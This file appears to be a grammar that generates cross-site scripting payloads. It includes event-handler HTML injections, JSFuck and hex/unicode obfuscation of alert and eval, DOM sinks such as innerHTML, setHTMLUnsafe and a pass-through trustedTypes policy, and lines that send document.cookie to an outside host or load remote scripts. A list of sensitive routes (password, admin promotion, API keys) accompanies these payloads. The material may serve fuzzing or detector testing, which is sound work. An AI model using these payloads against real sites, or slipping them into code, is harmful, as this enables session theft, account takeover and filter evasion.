  document.execCommand(‹=q›insertHTML‹=q›,0,‹=q›‹xs.tiny›‹=q›)
  document.writeln(‹=q›‹xs.tiny›‹=q›)
  document.body.outerHTML=‹=q›‹xs.tiny›‹=q›
  document.body.setAttribute(‹=q›on‹xs.ev›‹=q›,‹=q›‹xs.base›(‹n›)‹=q›)
  §(‹=q›‹xs.tiny›‹=q›)
  §(‹=q›‹body¦#‹~1-5››‹=q›).‹html¦append¦before¦wrap›(‹=q›‹xs.tiny›‹=q›)
  new DOMParser().parseFromString(‹=q›‹xs.tiny›‹=q›,‹=q›text/html‹=q›)
  document.body.setHTMLUnsafe(‹=q›‹xs.tiny›‹=q›)
  trustedTypes.createPolicy(‹=q›default‹=q›,{createHTML:‹=i:‹~1››=>‹=i›});document.body.innerHTML=‹=q›‹xs.tiny›‹=q›
xs.route = account/email user/password admin/users profile/edit my-account/change-email api/v‹#1-3›/users/‹#1-99› settings admin/promote?‹~2-5›=‹n› transfer ‹noun›/delete/‹n› wp-admin/user-new.php api/keys ‹noun›/‹noun› users/‹n›/role
xs.tiny = <img/src/onerror=‹xs.base›(‹n›)> <svg/onload=‹xs.base›(‹n›)> <svg/onload=‹xs.base›´‹n›´> <iframe/onload=‹xs.base›(‹n›)> <video/src/onerror=‹xs.base›(‹n›)> <details/open/ontoggle=‹xs.base›(‹n›)> <script/src=//‹host›></script> <body/onload=‹xs.base›(‹n›)> <input/autofocus/onfocus=‹xs.base›(‹n›)> <iframe/src=javascript:‹xs.base›(‹n›)> <style/onload=‹xs.base›(‹n›)> <audio/src/onerror=‹xs.base›(document.domain)>

xs.jf = ![] !![] [] +[] +!+[] !+[]+!+[] [][[]] [+[]] [+!+[]] [!+[]+!+[]] (![]+[])[+[]] (![]+[])[+!+[]] (![]+[])[!+[]+!+[]] (!![]+[])[+[]] (!![]+[])[+!+[]] (!![]+[])[!+[]+!+[]+!+[]] ([][[]]+[])[+!+[]] ([]+{})[+!+[]] ([![]]+[][[]])[+!+[]+[+[]]] (+[![]]+[])[+[]] [+!+[]+[+[]]]
xs.atom = (![]+[])[+[]] (![]+[])[+!+[]] (![]+[])[!+[]+!+[]] (![]+[])[!+[]+!+[]+!+[]] (!![]+[])[+[]] (!![]+[])[+!+[]] (!![]+[])[!+[]+!+[]] ([][[]]+[])[+[]] ([][[]]+[])[!+[]+!+[]] ([]+{})[+!+[]] ([]+{})[!+[]+!+[]] ([]+[]+[][[]])[+!+[]] ([![]]+[][[]])[+!+[]+[+[]]] ({}+[])[!![]+!![]+!![]+!![]+!![]] (!''+'')[3] (!1+'')[1] (!1+[])[2] (!0+[])[1] ([]+{})[5] ({}+'')[1]
xs.obf: 2× [][‹×4-7+:‹xs.atom››][‹×6-14+:‹xs.atom››](‹×4-30+:‹xs.atom››)()
  [][‹×3-8+:‹xs.atom››][‹×5-12+:‹xs.atom››](‹×10-60+:‹xs.jf››)()
  []['‹flat¦filter¦fill¦find›'][‹×4-9+:‹xs.atom››]('‹xs.base›(‹n›)')()
  self[‹×3-6+:‹xs.atom››](‹n›)
  top[(![]+[])[1]+(![]+[])[2]+(!![]+[])[3]+(!![]+[])[1]+(!![]+[])[0]](‹n›)
  §=[]‹¦+[]›,_=!§+§,‹×3-8,:‹~1›=_[‹#0-9›]›,[][‹~1›+‹~1›+‹~1›+‹~1›](‹~1›+'(‹n›)')()
  (‹=i:‹_¦§¦__¦ª››=[][(![]+[])[‹#0-4›]+({}+[])[‹#0-9›]])[‹=i›+[]](‹n›)
  §=~[];§={___:++§,§§§§:(![]+"")[§],__§:++§,§_§_:(![]+"")[§],_§_:++§,§_§§:({}+"")[§],§§_§:(§[§]+"")[§],_§§:++§};‹×2-6;:§.‹§¦_›‹§¦_›‹§¦_›=(§.§_=§+"")[§.‹_§§¦__§›]›
  eval(function(p,a,c,k,e,‹d¦r›){while(c--)if(k[c])p=p.replace(new RegExp('\\b'+c.toString(a)+'\\b','g'),k[c]);return p}('0(‹#1-9›)',‹#2-62›,‹#1-9›,'‹xs.base›‹×0-4:|‹~2-8››'.split('|'),0,{}))
  var _0x‹=i:‹%4››=['‹backslashHex!‹xs.base››','‹backslashHex!‹cookie¦log¦domain››'];(function(_0x‹%5›,_0x‹%5›){})(_0x‹=i›,0x‹%2-3›);window[_0x‹=i›[0x0]](document[_0x‹=i›[0x1]])
  const _0x‹=i:‹%6››=_0x‹%4›;window[_0x‹=i›(0x‹%2-3›)](_0x‹=i›(0x‹%2-3›))
  ‹=i:‹~1››='‹~2-5›';‹=j:‹~1›2›='al';‹=k:‹~1›3›='ert';window[‹=j›+‹=k›](‹=i›)
  ‹=i:‹xs.id››=''+!1+!0;top[‹=i›[1]+‹=i›[2]+‹=i›[4]+‹=i›[6]+‹=i›[5]](‹n›)
  (ᐁ=>ᐁ[['al','ert'].join('')](‹n›))(window)
  ('ﾟ'+‹n›,window)['‹unicode!alert›'](‹n›)
  (+{}+[])[+!![]]+(![]+[])[!+[]+!![]]+([][+[]]+[])[!+[]+!![]+!![]]+(!![]+[])[+!![]]+(!![]+[])[+[]]
  \u0065\u0076\u0061\u006c('‹unicode!‹xs.base›(‹n›)›')
  [‹'‹~1›'¦"‹~1›"›,‹‹n›¦!1›].concat(self['\x61\x6c\x65\x72\x74'](‹n›))
  ‹=i:‹xs.id››=[‹×2-6,:'‹backslashHex!‹~2-6››'›,'‹backslashHex!‹xs.base››'];self[‹=i›[‹=i›.length-1]](‹n›)

xs.js: 12× ‹xs.call›
  3× ‹xs.nocall›
  5× ‹xs.eval›
  5× ‹xs.steal›
  3× ‹xs.hook›
  2× ‹xs.act›
  ‹xs.call›;‹xs.call›
  ‹xs.call›;‹xs.steal›
  ‹xs.steal›;
  ‹xs.call›;
  ‹xs.call›//‹~0-5›
  /*‹~0-6›*/‹xs.call›/*‹~0-6›*/
  ‹~2-6›:‹xs.call›
  javascript:‹xs.call›
  return ‹xs.call›
  void(‹xs.call›)
  ;‹xs.call›;
  setTimeout(()=>{‹xs.steal›},‹#100-9999›)
  (function(){‹xs.steal›})()
  event.preventDefault();‹xs.steal›
  if(!window.‹=f:‹~1-4››){window.‹=f›=1;‹xs.steal›}
  ‹xs.obf›
xs.tight: 10× ‹xs.base›(‹n›)
  3× ‹xs.base›(document.‹domain¦cookie›)
  2× ‹xs.base›()
  print(‹¦‹n››)
  print´´
  console.log(‹n›)
  parent.print(‹n›)
  2× ‹xs.base›´‹n›´
  ‹xs.base›´´
  ‹xs.base›(origin)
  ‹xs.base›(location)
  2× ‹xs.base›(/‹rnd›/)
  2× ‹xs.base›(‹=q›‹rnd›‹=q›)
  ‹xs.base›(this.‹id¦src¦title¦innerHTML›)
  (‹xs.base›)(‹n›)
  [‹n›].‹find¦map¦some›(‹xs.base›)
  ‹xs.win›[‹xs.split›](‹n›)
  ‹xs.win›[‹=q›‹xs.base›‹=q›](‹n›)
  ‹xs.win›[/al/.source+/ert/.source](‹n›)
  ‹xs.win›[8680439..toString(30)](‹n›)
  ‹xs.win›.‹xs.base›(‹n›)
  eval(name)
  eval(atob(‹=q›‹b64!‹xs.base›(‹n›)›‹=q›))
  eval(location.hash.slice(1))
  eval(String.fromCharCode(‹charCodes!‹xs.base›(‹n›)›))
  eval(‹=q›‹backslashHex!‹xs.base››(‹n›)‹=q›)
  location=name
  location=‹=q›javascript:‹xs.base›\x28‹n›\x29‹=q›
  location=‹=q›//‹host›/?‹=q›+document.cookie
  fetch(‹=q›//‹host›/‹=q›+document.cookie)
  import(‹=q›//‹host›‹=q›)
  §.getScript(‹=q›//‹host›‹=q›)
  this.src=‹=q›//‹host›/?‹=q›+document.cookie
  \u0061lert(‹n›)
  ‹xs.base›&lpar;‹n›&rpar;
  &#97;lert(‹n›)
  ‹entity!‹xs.base›(‹n›)›
  ‹entityHex!‹xs.base›(‹n›)›
  javascript:‹xs.base›(‹n›)
  window.onerror=‹xs.base›;throw+‹n›
  ‹xs.base›(‹n›);
  ‹xs.base›(‹n›)//
  ‹xs.base›(‹n›)-‹xs.base›(‹n›)
`
